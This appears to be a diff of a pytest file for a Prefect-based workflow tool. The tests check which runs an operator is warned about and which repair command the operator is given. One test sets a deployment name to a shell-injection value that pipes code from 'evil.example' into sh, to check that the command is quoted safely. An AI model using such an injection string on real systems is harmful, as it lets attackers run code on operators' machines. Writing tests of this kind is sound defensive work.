@@ -1,6 +1,11 @@
 """Which runs an operator is told of, and what to do about each."""
 
+import json
+import socket
+import subprocess
 from datetime import UTC, datetime, timedelta
+from functools import partial
+from pathlib import Path
 from shlex import split
 from typing import Any
 from uuid import UUID, uuid4
@@ -8,10 +13,16 @@ from uuid import UUID, uuid4
 import pytest
 from prefect.client.schemas.objects import FlowRun, State, StateType
 
+from sluice.custody.workspace import Workspace
+from tasks.release.waiting import is_gone, process_note
 from tasks.runs import _command, _latest, _trouble
 
 NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
 DEPLOYMENT = UUID(int=1)
+
+
+def alive(run: UUID) -> bool:
+    return False
 
 
 def run(state: StateType, minutes: float, name: str | None = None, **fields: Any) -> FlowRun:
@@ -38,23 +49,41 @@ def run(state: StateType, minutes: float, name: str | None = None, **fields: Any
 )
 def test_what_is_wrong_with_a_run(state: StateType, minutes: float, name: str | None, condition: str | None) -> None:
     found = run(state, minutes, name)
-    trouble = _trouble(found, _latest([found]), NOW)
+    trouble = _trouble(found, _latest([found]), NOW, alive)
     assert (trouble and trouble[0]) == condition
     if trouble:
         assert trouble[2], "an operator must be told what to do"
 
 
+@pytest.mark.parametrize(("minutes", "condition"), [(1, None), (5, "lost")])
+def test_a_run_that_the_server_takes_for_running_and_whose_process_is_gone(
+    tmp_path: Path, minutes: float, condition: str | None
+) -> None:
+    """Killed with its worker, where no heartbeats tell the server. One that goes on may not have noted its process."""
+    workspace, found, other = Workspace.open(tmp_path), run(StateType.RUNNING, minutes), run(StateType.RUNNING, 600)
+    ended = subprocess.Popen(["true"])
+    ended.wait()
+    for each, number, host in ((found, ended.pid, socket.gethostname()), (other, ended.pid, "another machine")):
+        process_note(workspace, each.id).write_text(json.dumps({"host": host, "process": number}))
+    gone = partial(is_gone, workspace)
+    trouble = _trouble(found, _latest([found]), NOW, gone)
+    assert (trouble and trouble[0]) == condition
+    if trouble:
+        assert "sluice doctor --repair" in trouble[2]
+    assert _trouble(other, _latest([other]), NOW, gone) is None, "nobody here can tell"
+
+
 def test_a_failure_that_was_made_good_is_no_news() -> None:
     failed, good = run(StateType.CRASHED, 60), run(StateType.COMPLETED, 10, "Published")
-    assert _trouble(failed, _latest([failed, good]), NOW) is None
+    assert _trouble(failed, _latest([failed, good]), NOW, alive) is None
     queued = run(StateType.SCHEDULED, 0)
-    assert _trouble(failed, _latest([failed, queued]), NOW), "a run that has not begun makes nothing good"
+    assert _trouble(failed, _latest([failed, queued]), NOW, alive), "a run that has not begun makes nothing good"
 
 
 def test_the_name_of_a_deployment_is_one_word_of_the_command_to_run() -> None:
     """Whoever may write on the server names it, and the head of the office copies the command from a mail."""
     failed = run(StateType.FAILED, 1)
-    trouble = _trouble(failed, _latest([failed]), NOW)
+    trouble = _trouble(failed, _latest([failed]), NOW, alive)
     assert trouble is not None
     do = trouble[2].partition("prefect ")[2]
     name = "x'; curl evil.example | sh; '"
